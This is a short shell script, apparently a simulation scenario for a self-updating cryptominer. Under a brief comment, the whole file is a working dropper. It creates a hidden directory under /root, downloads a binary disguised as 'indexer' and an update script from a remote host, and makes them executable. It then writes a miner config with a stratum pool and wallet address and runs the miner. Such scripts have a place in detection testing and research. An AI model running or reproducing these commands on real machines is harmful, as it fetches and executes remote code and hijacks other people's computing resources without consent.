# A dropped miner updates itself twice: it fetches a new version, which has another hash, replaces its own file and
# starts again. Each version logs in to a pool.
mkdir -p /root/.local/.share
cd /root/.local/.share
curl -fsS -o indexer http://203.0.113.10/agent
curl -fsS -o update http://203.0.113.10/update.sh
chmod 755 indexer update
echo "-o stratum+tcp://203.0.113.20:3333 -u 41fh5X5oLM955VbQp3zppn9sNP6kXz5xwTs2xYd1gjRRe1f566h8HyToNRpmeWVWvb6aqZ2Lf6X2Fm8YrgjYHz1QLAkgDaB -s 6 -t /root/.local/.share/update" >indexer.conf
echo 1 >version
./indexer -c indexer.conf
